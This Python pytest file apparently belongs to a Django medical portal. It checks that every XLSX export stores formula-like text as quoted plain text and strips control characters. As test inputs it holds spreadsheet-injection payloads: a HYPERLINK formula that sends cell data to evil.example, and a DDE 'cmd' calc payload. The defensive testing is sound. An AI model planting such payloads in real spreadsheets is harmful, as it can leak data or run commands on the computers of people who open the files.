"""medportal.xlsx, the one XLSX writer, and every XLSX the app writes read back with openpyxl:
formula-like text stays text (string cell, quote prefix, same visible text), characters XLSX
cannot hold are dropped, nothing fails."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from medportal.xlsx import XlsxWriter, sheet_title

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click me")'
HOSTILE = [
    HYPERLINK,
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]
CONTROLS = "ok\x00\x01\x02\x08\x0b\x0c\x0e\x1f-end"
# What a stored text can hold: PostgreSQL refuses NUL (the importers refuse such a row and the
# inference layer drops it from model output), the other control characters are kept.
STORED_CONTROLS = CONTROLS.replace("\x00", "")


def read_back(text: str) -> str:
    """What a reader sees: XML turns a carriage return into a line feed."""
    return text.replace("\r", "\n")


def assert_safe(ws) -> list:
    """Every cell of ``ws`` is a value, never a formula; returns the string values."""
    texts = []
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert not any(ord(ch) < 32 and ch not in "\t\n\r" for ch in cell.value), repr(cell.value)
                if cell.value.startswith(("=", "+", "-", "@", "\t", "\n")):
                    assert cell.quotePrefix, (cell.coordinate, cell.value)
                texts.append(cell.value)
    return texts


def test_the_writer_keeps_hostile_text_as_visible_text_and_drops_control_characters():
    book = XlsxWriter()
    sheet = book.sheet("a/b:c*d?[e]" + "x" * 40, ["=header", "plain"])
    for text in HOSTILE:
        sheet.append([text, 1])
    sheet.append([CONTROLS, float("nan")])
    wb = load_workbook(io.BytesIO(book.getvalue()))
    (ws,) = wb.worksheets
    assert ws.title == sheet_title("a/b:c*d?[e]" + "x" * 40) and len(ws.title) == 31
    texts = assert_safe(ws)
    for text in HOSTILE:
        assert read_back(text) in texts  # faithful: the same visible text
    assert "ok-end" in texts
    assert ws["B2"].value == 1 and ws["B2"].data_type == "n"
    assert ws["A1"].font.bold


def test_two_sheets_with_the_same_cleaned_title_both_exist():
    book = XlsxWriter()
    book.sheet("a/b")
    book.sheet("a:b")
    assert load_workbook(io.BytesIO(book.getvalue())).sheetnames == ["a_b", "a_b (2)"]


# --- every export ------------------------------------------------------------------------------


def _hostile_pairs(curator, make_pair):
    from curation.models import QAPair

    for i, text in enumerate([*HOSTILE, STORED_CONTROLS]):
        make_pair(
            curator,
            status=QAPair.Status.APPROVED,
            instruction=f"{text} 问题{i}",
            output=text if i % 2 else f"{text}\n答{i}",
            reasoning=STORED_CONTROLS,
            department="内科",
        )


@pytest.mark.django_db
def test_the_dataset_version_xlsx_export_holds_no_formula(curator, make_pair, tmp_path):
    from curation.exports import EXPORTERS
    from curation.services.versions import dataset_version_freeze

    _hostile_pairs(curator, make_pair)
    version = dataset_version_freeze(user=curator, name="=cmd|' /C calc'!A0", description=HYPERLINK, split=(1, 0, 0))
    (path,) = EXPORTERS["xlsx"](version, tmp_path)
    wb = load_workbook(path)
    texts = [t for ws in wb.worksheets for t in assert_safe(ws)]
    assert HYPERLINK in texts and "=cmd|' /C calc'!A0" in texts
    assert sum(1 for t in texts if t.startswith("@SUM")) >= 1
    assert not any("\x00" in t or "\x1f" in t for t in texts)


@pytest.mark.django_db
def test_the_evaluation_report_xlsx_holds_no_formula(client, clinician, admin_user, curator, make_pair):
    from tests.training.eval_factories import make_eval_version, make_finished_run
    from tests.training.ui_factories import make_base_model

    version = make_eval_version(curator, make_pair)
    hostile = [*HOSTILE, STORED_CONTROLS]
    run = make_finished_run(
        admin_user, version, make_base_model(admin_user, name="hostile"), predictions=lambda c: hostile[len(c["output"]) % len(hostile)]
    )
    client.force_login(clinician)
    response = client.get(reverse("training:evaluation-export-xlsx", args=[run.pk]))
    assert response.status_code == 200
    wb = load_workbook(io.BytesIO(response.content))
    texts = [t for ws in wb.worksheets for t in assert_safe(ws)]
    assert {read_back(t) for t in HOSTILE} & set(texts) and "ok-end" in texts


@pytest.mark.django_db
def test_the_chat_ratings_xlsx_holds_no_formula(client, clinician, admin_user, tmp_path):
    from chat.models import ChatMessage, ChatSession, Rating
    from tests.training.ui_factories import make_base_model

    model = make_base_model(admin_user, name="hostile-chat")
    session = ChatSession.objects.create(user=clinician, base_model=model, system_prompt="")
    for i, text in enumerate([*HOSTILE, STORED_CONTROLS]):
        ChatMessage.objects.create(session=session, role=ChatMessage.Role.USER, content=f"{text} Q{i}")
        answer = ChatMessage.objects.create(session=session, role=ChatMessage.Role.ASSISTANT, content=text, base_model=model)
        Rating.objects.create(
            message=answer, user=clinician, thumb="down", comment=text, corrected_answer=STORED_CONTROLS, reason_tags=["=1+1", "@x"]
        )
    client.force_login(clinician)
    response = client.get(reverse("chat:ratings-export", args=["xlsx"]))
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(response.content)).active
    texts = assert_safe(ws)
    header = [c.value for c in ws[1]]
    answers = [row[header.index("answer")].value for row in ws.iter_rows(min_row=2)]
    assert answers == [*map(read_back, HOSTILE), "ok-end"]
    assert "=1+1, @x" in texts


def test_text_longer_than_an_excel_cell_is_cut_with_a_visible_marker():
    """Excel holds at most 32,767 characters in a cell (counted in UTF-16 units) and reports a
    longer one as a damaged file: the text is cut there and ends with a marker saying so."""
    from django.utils import translation

    from medportal.xlsx import CELL_MAX

    assert CELL_MAX == 32_767
    long_ascii = "=" + "a" * 40_000  # formula-like too: still text
    long_astral = "😀" * 20_000  # 2 UTF-16 units each: 40,000 units
    exact = "b" * CELL_MAX
    book = XlsxWriter()
    with translation.override("en"):
        sheet = book.sheet("long", ["text"])
        for text in (long_ascii, long_astral, exact):
            sheet.append([text])
    ws = load_workbook(io.BytesIO(book.getvalue())).active
    cut_ascii, cut_astral, kept = (ws.cell(row=r, column=1).value for r in (2, 3, 4))
    assert kept == exact  # at the limit: untouched
    for cut, original in ((cut_ascii, long_ascii), (cut_astral, long_astral)):
        assert len(cut.encode("utf-16-le")) // 2 <= CELL_MAX
        assert len(cut.encode("utf-16-le")) // 2 > CELL_MAX - 100  # cut at the limit, not far before
        head, marker = cut.split("…", 1)
        assert original.startswith(head) and "\ufffd" not in cut
        assert f"cut: {len(original):,} characters" in marker, marker
    assert ws["A2"].quotePrefix
    with translation.override("zh-hans"):
        book = XlsxWriter()
        book.sheet("long").append(["x" * 40_000])
    zh = load_workbook(io.BytesIO(book.getvalue())).active["A1"].value
    assert len(zh) <= CELL_MAX and "已截断" in zh


def test_no_module_but_the_one_writer_writes_a_workbook():
    """Any new XLSX goes through medportal.xlsx: no other module builds an openpyxl Workbook
    (or uses another XLSX writing library)."""
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    writer = root / "medportal" / "xlsx.py"
    pattern = re.compile(r"\bWorkbook\s*\(|openpyxl\.Workbook\b|from openpyxl import [^\n]*\bWorkbook\b|\bxlsxwriter\b|\bto_excel\s*\(")
    offenders = [
        str(path.relative_to(root))
        for app in ("curation", "chat", "training", "medportal", "bench")
        for path in (root / app).rglob("*.py")
        if path != writer and pattern.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
    assert pattern.search(writer.read_text(encoding="utf-8"))  # the pattern does find a writer
